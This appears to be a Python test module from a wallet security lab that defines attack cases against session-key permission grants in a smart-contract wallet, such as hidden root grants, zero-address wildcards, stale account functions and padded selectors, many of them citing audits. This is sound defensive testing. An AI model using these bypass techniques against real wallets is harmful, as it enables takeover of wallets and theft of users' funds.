"""Attacks on grants: permissions that the owner did not mean to give, and calls that no permission names."""

from __future__ import annotations

from sessionlab.attacks.attack import attack
from sessionlab.attacks.attack_lab import COUNTER, INCREMENT, STRANGER, TOKEN, WALLET, AttackLab
from sessionlab.attacks.gains import counts, owner, units, wei
from sessionlab.attacks.operations import act, install, revoke
from sessionlab.core.base.addresses import ZERO_ADDRESS
from sessionlab.core.contracts.artifacts import artifact
from sessionlab.core.erc4337 import wallet_encoding as account
from sessionlab.core.erc4337.call import Call
from sessionlab.core.permissions import (
    AccountFunctions,
    ContractAccess,
    Erc20TokenTransfer,
    FunctionsOnAllContracts,
    FunctionsOnContract,
    Root,
    rows,
)

KEY = "the session key"
ACCESS = ContractAccess(address=COUNTER)
PING = [Call(COUNTER, data=INCREMENT)]
SWAP = artifact("SessionWallet").encode("updateFallbackSignerData", STRANGER.address, False)
SWAPS = "0x" + SWAP[:4].hex()
token_abi = artifact("Token")
#: The highest kind number that a row can have; no extension uses it.
UNKNOWN_KIND = 95
TRANSFER = Call(TOKEN, data=token_abi.encode("transfer", STRANGER.address, 7))


@attack(
    "grants", holds="a grant that the owner reads hastily", gain="everything", source="Wallet API: root stands alone"
)
def root_beside_others(lab: AttackLab) -> str:
    """Root hides at the end of a list of small permissions."""
    install(lab, given=rows([ACCESS, Root()]))
    act(lab, SWAP, is_global=True)
    return owner(lab)


@attack("grants", holds=KEY, gain="a function on every contract", source="any list with a key for 'any'")
def zero_target_is_any(lab: AttackLab) -> str:
    """A function granted on the contract at address zero, where the list keeps the functions on all contracts."""
    install(lab, given=((7, ZERO_ADDRESS, TRANSFER.data[:4], 0),))
    act(lab, [TRANSFER])
    return units(lab)


@attack("grants", holds=KEY, gain="a session without its limit", source="any decoder that skips what it does not know")
def limit_of_an_unknown_kind(lab: AttackLab) -> str:
    """The grant holds a limit of a kind that this wallet does not know: skipped, it would bind nothing."""
    install(lab, given=[*rows([ACCESS]), (UNKNOWN_KIND, COUNTER, bytes(4), 0)])
    act(lab, PING, wrapped=True)  # limits on calls are counted only in executeUserOp
    return counts(lab)


@attack("grants", holds="the key of the next session", gain="the wallet", source="Openfort audit, OF-3")
def stale_account_function(lab: AttackLab) -> str:
    """A function of the wallet was granted to the session before; the next one under its id inherits it."""
    install(lab, [AccountFunctions(functions=[SWAPS])])
    revoke(lab)
    install(lab, [ACCESS], generation=1)
    act(lab, SWAP)
    return owner(lab)


@attack("grants", holds=KEY, gain="the wallet", source="the rule itself")
def wildcard_names_an_own_function(lab: AttackLab) -> str:
    """A function granted on all contracts is called on the wallet, which has it too."""
    install(lab, [FunctionsOnAllContracts(functions=[SWAPS, "0x" + INCREMENT.hex()])])
    for calls in ([Call(WALLET, data=SWAP)], [Call(WALLET, data=SWAP), *PING]):
        act(lab, calls)
    return owner(lab)


@attack(
    "grants",
    holds=KEY,
    gain="a function that the list leaves out",
    source="the rules of the documentation: one permission that reaches a call is enough",
    passes=("documented",),
)
def wildcard_over_a_list(lab: AttackLab) -> str:
    """One contract has a list of its own; a function on all contracts is called there."""
    add = "0x" + artifact("Counter").encode("add", 7)[:4].hex()
    increment = "0x" + INCREMENT.hex()
    install(
        lab,
        [FunctionsOnContract(address=COUNTER, functions=[add]), FunctionsOnAllContracts(functions=[increment])],
    )
    act(lab, PING)
    return counts(lab)


@attack("grants", holds=KEY, gain="a call of no function", source="Modular Account v2, allowlist of 0x00000000")
def zero_selector_on_one_contract(lab: AttackLab) -> str:
    """The function 0x00000000 of a contract is granted; a call without any function is sent there."""
    install(lab, [FunctionsOnContract(address=COUNTER, functions=["0x00000000"])])
    got = [act(lab, [Call(COUNTER, amount)]).phase == "ok" for amount in (0, 5)]
    return wei(lab, COUNTER) or ("a call of no function" if any(got) else "")


@attack("grants", holds=KEY, gain="an approval by another name", source="Modular Account v1 audit, 5.2.1")
def alias_by_wildcard(lab: AttackLab) -> str:
    """increaseAllowance on all contracts, used on the token whose spending is limited."""
    more = Call(TOKEN, data=token_abi.encode("increaseAllowance", STRANGER.address, 7))
    install(
        lab,
        [
            Erc20TokenTransfer(address=TOKEN, allowance=50),
            FunctionsOnAllContracts(functions=["0x" + more.data[:4].hex()]),
        ],
    )
    act(lab, [more])
    approved = token_abi.decode(
        "allowance", lab.chain.call(TOKEN, token_abi.encode("allowance", WALLET, STRANGER.address)).output
    )
    return f"an approval of {approved} units" if approved else ""


@attack("grants", holds=KEY, gain="gas", source="SmartSession audit, 3.2.7; Modular Account v1, 5.5.16")
def empty_batch_of_account_functions(lab: AttackLab) -> str:
    """A session that may call one function of the wallet, and no other contract, sends a batch of nothing."""
    install(lab, [AccountFunctions(functions=[SWAPS])])
    return "gas of the wallet" if act(lab, account.execute_batch([], wrapped=False)).included else ""


@attack("grants", holds=KEY, gain="gas", source="selectors are padded with zeros where they are read")
def padded_selector(lab: AttackLab) -> str:
    """Call data of fewer than four bytes, where the function that its padding makes of it was granted."""
    install(lab, [AccountFunctions(functions=["0xabcdef00"]), FunctionsOnAllContracts(functions=["0xabcdef00"])])
    short = b"\xab\xcd\xef"
    tries = [
        act(lab, short),
        act(lab, short, wrapped=True),
        act(lab, [Call(WALLET, data=short), Call(WALLET, data=short)]),
    ]
    return "gas of the wallet" if any(item.included for item in tries) else ""


@attack("grants", holds="a root key", gain="gas", source="ERC-6900, functions of the account")
def no_such_function(lab: AttackLab) -> str:
    """Functions that the wallet does not have, or that nobody calls by an operation."""
    install(lab, [Root()])
    strange = [b"\xde\xad\xbe\xef", artifact("SessionWallet").encode("initialize", STRANGER.address)]
    tries = [act(lab, call, entity=entity, is_global=True) for call in strange for entity in (0, 1)]
    return owner(lab) or ("gas of the wallet" if any(item.included for item in tries) else "")


@attack(
    "grants",
    holds="an application with a root key, whose users name target and data",
    gain="the wallet",
    source="Modular Account v1 audit, MSCA-3 and MSCA-4",
)
def way_back_as_root(lab: AttackLab) -> str:
    """The user names the wallet itself as the target: alone, in a batch, by a batch in a batch."""
    install(lab, [Root()])
    inner = account.execute(Call(WALLET, data=SWAP), wrapped=False)
    tries = [
        act(lab, [Call(WALLET, data=SWAP)]),
        act(lab, [Call(WALLET)]),
        act(lab, [Call(WALLET, data=inner), *PING]),
        act(lab, [Call(WALLET, data=b"\1\2"), *PING]),
    ]
    return owner(lab) or ("gas of the wallet" if any(item.included for item in tries) else "")
